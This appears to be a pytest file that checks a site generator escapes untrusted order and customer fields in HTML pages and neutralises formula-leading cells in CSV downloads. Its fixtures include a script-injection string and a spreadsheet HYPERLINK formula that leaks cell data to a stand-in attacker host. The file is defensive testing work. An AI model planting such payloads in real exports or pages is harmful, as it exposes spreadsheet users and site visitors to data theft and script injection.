"""Export fields are untrusted: escaped in HTML, neutralised in CSV downloads."""

from __future__ import annotations

import csv
import io
import re

from conftest import minimal_config

from generator.site.tables import neutralise

SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def hostile_site(site):
    site.file("customers.csv", f'id,name\nC1,"Evil {SCRIPT} Ltd"\n')
    site.file(
        "orders.csv",
        "order,customer,date,sku,qty,price,po,notes\n"
        f'A-1,C1,2026-05-01,"{FORMULA.replace(chr(34), chr(34) * 2)}",1,2,"+SUM(1,2)","{SCRIPT}"\n'
        f'"A-2 {SCRIPT}",C1,2026-05-02,@cmd,1,2,-3+3,ok\n',
    )
    raw = minimal_config()
    raw["exports"]["orders"]["columns"].update(po_number="po", notes="notes")
    result = site.build(raw)
    assert result.ok, result.failure
    return site.public / "C1"


def test_html_escapes_export_fields(site):
    portal = hostile_site(site)
    pages = list(portal.glob("*.html"))
    assert len(pages) >= 4
    for page in pages:
        text = page.read_text()
        assert SCRIPT not in text, page.name
        assert "<script>" not in re.sub(
            r'<script src="\.\./_static/lists\.[0-9a-f]{10}\.js" integrity="[^"]+" defer></script>', "", text
        )
    assert "Evil &lt;script&gt;alert(1)&lt;/script&gt; Ltd" in (portal / "index.html").read_text()
    detail = next(p for p in pages if p.name.startswith("order-A-2"))
    assert "A-2 &lt;script&gt;" in detail.read_text()
    assert "&#34;" in (portal / "order-A-1.html").read_text() or "&quot;" in (portal / "order-A-1.html").read_text()


def test_csv_cells_cannot_become_formulas(site):
    portal = hostile_site(site)
    data = (portal / "orders.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(data)))
    refs = {r["Your reference"] for r in rows}
    assert refs == {"'+SUM(1,2)", "'-3+3"}
    assert {r["Order"] for r in rows} == {"A-1", f"A-2 {SCRIPT}"}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@")), value
    assert [r["Total"] for r in rows] == ["2.00", "2.00"]  # numbers stay numbers


def test_neutralise_leaves_ordinary_text_alone():
    assert neutralise("Widget") == "Widget"
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("@SUM(A1)") == "'@SUM(A1)"
    assert neutralise("\tx") == "'\tx"
